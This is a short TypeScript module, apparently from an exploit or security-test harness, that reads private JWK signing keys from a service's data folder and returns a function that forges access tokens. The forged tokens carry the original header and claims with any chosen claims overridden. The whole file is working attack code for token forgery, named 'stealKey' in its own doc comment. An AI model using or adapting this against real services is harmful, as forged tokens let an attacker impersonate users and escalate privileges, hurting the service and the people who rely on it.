import { createPrivateKey, sign } from 'node:crypto'
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

/** The names of the signing keys' files in a data folder. */
export const keyFiles = (data: string): readonly string[] =>
  readdirSync(join(data, 'keys')).filter((name) => name.endsWith('.jwk'))

const part = (token: string, at: 0 | 1): Record<string, unknown> =>
  JSON.parse(Buffer.from(token.split('.')[at] ?? '', 'base64url').toString()) as Record<string, unknown>

const encode = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url')

export type Forge = (claims: Readonly<Record<string, unknown>>) => string

/**
 * Steals the key that signed a token, and forges others of its kind, with other claims where some are given.
 * @param token an access token of the service that the data folder belongs to
 */
export function stealKey(data: string, token: string): Forge {
  const [header, claims] = [part(token, 0), part(token, 1)]
  const file = keyFiles(data).find((name) => name.startsWith(String(header['alg']))) ?? ''
  const jwk = JSON.parse(readFileSync(join(data, 'keys', file), 'utf8')) as Record<string, unknown>
  const key = createPrivateKey({ key: jwk, format: 'jwk' })
  return (others) => {
    const input = `${encode(header)}.${encode({ ...claims, ...others })}`
    const signature = sign('sha256', Buffer.from(input), { key, dsaEncoding: 'ieee-p1363' })
    return `${input}.${signature.toString('base64url')}`
  }
}
